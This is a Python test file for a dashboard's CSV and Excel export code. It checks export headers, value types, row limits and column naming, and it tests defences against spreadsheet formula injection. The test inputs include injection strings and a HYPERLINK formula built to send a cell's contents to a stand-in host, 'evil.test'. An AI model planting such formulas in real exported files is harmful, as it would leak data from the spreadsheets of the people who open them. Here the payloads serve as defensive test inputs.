"""What is taken away says what it is, holds words beside codes, and cannot harm a spreadsheet."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime
from urllib.parse import parse_qs
from zipfile import ZipFile

import numpy as np
import pandas as pd
import pytest
from python_calamine import CalamineWorkbook

from components.drawing.tables import header
from components.drawing.taking import csv_file, in_words
from components.links import Options, parse
from db.export import to_csv
from db.rules.errors import DeskError
from db.workbook import MOST_ROWS, to_xlsx

OPTIONS = Options(lists={"district": {"4": "4", "Los Feliz": "Los Feliz"}})
VIEW = parse({"district": ["4"]}, OPTIONS)
FORMULAS = ["=HYPERLINK(1)", "+1", "-1", "@x", "\tx", "＝1", "＋1", "－1", "＠x", " =1", "\u200b=1", "\ufeff+1", "\n=1"]
HARMLESS = ["10 MAIN", "a=1", "'=1", "", "1-2", "x@y"]


def opened(content: bytes, sheet: str = "Data") -> list[list[object]]:
    return CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_name(sheet).to_python()


def test_what_stands_beside_an_export_names_definition_filters_and_moment() -> None:
    lines = header("Backlog", VIEW, ["open_count"])
    assert lines[0] == "Backlog"
    assert "As of: Sat 1 Jan 2000, 00:00" in lines
    assert any("district 4" in line and "published goals only" in line for line in lines)
    assert any("are open at the moment described" in line for line in lines)


def test_the_filters_of_an_export_lead_back_to_what_it_holds() -> None:
    link = {"district": ["4", "Los Feliz"], "period": ["last_4_weeks"], "as_of": ["2000-01-01T00:00"]}
    view = parse(link, OPTIONS)
    lines = header("Backlog", view, uses_period=True)
    filters = next(line for line in lines if line.startswith("Filters")).partition(": ")[2]
    assert parse(parse_qs(filters), OPTIONS) == view
    assert "period=" not in "".join(header("Backlog", view))


def test_no_cell_of_a_csv_starts_a_formula_and_numbers_stay_numbers() -> None:
    texts = [*FORMULAS, *HARMLESS, None]
    frame = pd.DataFrame({"address": texts, "change": range(-3, len(texts) - 3), "mixed": [-1, "=1", *texts[2:]]})
    rows = list(csv.DictReader(io.StringIO(csv_file(frame).decode("utf-8-sig"), newline="")))
    assert [row["address"] for row in rows] == [*(f"'{text}" for text in FORMULAS), *HARMLESS, ""]
    assert [row["change"] for row in rows] == [str(number) for number in frame["change"]]
    assert [row["mixed"] for row in rows[:2]] == ["-1", "'=1"]


def test_a_csv_begins_with_its_header_which_is_no_formula_either() -> None:
    text = csv_file(pd.DataFrame({"=1+1": [1]})).decode("utf-8-sig")
    assert text.splitlines()[0] == "'=1+1"


def test_a_line_above_a_csv_is_one_cell_whatever_is_in_it() -> None:
    line = 'on 1. one and x,=HYPERLINK("http://evil.test/?"&A9),y\nsecond'
    rows = list(csv.reader(io.StringIO(to_csv(pd.DataFrame({"a": [1]}), [line]))))
    assert rows == [['# on 1. one and x,=HYPERLINK("http://evil.test/?"&A9),y second'], ["a"], ["1"]]


def test_a_workbook_holds_every_value_in_its_own_type() -> None:
    frame = pd.DataFrame(
        {
            "sr_number": ["1-1", "0042", None],
            "open_count": [3, 4, 5],
            "kept_share": [0.5, np.nan, np.inf],
            "created_at": pd.to_datetime(["2026-07-03 16:59", None, "2026-07-04 00:00"]),
            "is_open": [True, False, True],
            "cell": [2**60, 2**60 + 1, 1],
            "day": [date(2026, 7, 3), None, date(2026, 7, 4)],
        }
    )
    rows = opened(to_xlsx(frame, [], {"sr_number": "Request"}))
    assert rows[0] == ["Request", *frame.columns[1:]]
    assert rows[1] == ["1-1", 3, 0.5, datetime(2026, 7, 3, 16, 59), True, str(2**60), date(2026, 7, 3)]
    assert rows[2] == ["0042", 4, "", "", False, str(2**60 + 1), ""]
    assert rows[3][0] == ""
    assert rows[3][2] == ""


def test_no_text_of_a_workbook_is_a_formula() -> None:
    texts = [text for text in [*FORMULAS, *HARMLESS] if text.strip()]
    content = to_xlsx(pd.DataFrame({"=1": texts}), ['x: =HYPERLINK("http://evil.test")'])
    assert [row[0] for row in opened(content)] == ["=1", *texts]
    assert opened(content, "About") == [["x", '=HYPERLINK("http://evil.test")']]
    with ZipFile(io.BytesIO(content)) as parts:
        assert not [name for name in parts.namelist() if b"<f>" in parts.read(name) or b"hyperlink" in parts.read(name)]


def test_a_workbook_of_no_rows_still_has_its_headings() -> None:
    assert opened(to_xlsx(pd.DataFrame({"a": pd.Series(dtype=float)}), [])) == [["a"]]


def test_the_same_rows_give_the_same_workbook() -> None:
    frame = pd.DataFrame({"a": ["x", "y"]})
    assert to_xlsx(frame, ["As of: now"]) == to_xlsx(frame, ["As of: now"])


def test_a_text_too_long_for_a_cell_is_cut_and_too_many_rows_are_refused() -> None:
    rows = opened(to_xlsx(pd.DataFrame({"a": ["x" * 40_000]}), []))
    assert len(str(rows[1][0])) == 32_767
    with pytest.raises(DeskError, match="rows are more than"):
        to_xlsx(pd.DataFrame({"a": np.zeros(MOST_ROWS + 1)}), [])


def test_codes_stand_beside_their_words_and_headings_are_those_of_the_page() -> None:
    frame = pd.DataFrame({"status": ["open"], "outcome": ["nothing_found"], "open_count": [3]})
    taken = in_words(frame, {"outcome": "Outcome", "open_count": "Open"})
    assert taken.to_dict("records") == [
        {"status_name": "open", "status": "open", "Outcome": "nothing found", "outcome": "nothing_found", "Open": 3}
    ]


def test_no_column_is_lost_where_headings_meet() -> None:
    frame = pd.DataFrame({"a": [1], "b": [2], "c": [3]})
    assert in_words(frame, {"a": "b", "c": ""}).iloc[0].tolist() == [1, 2, 3]
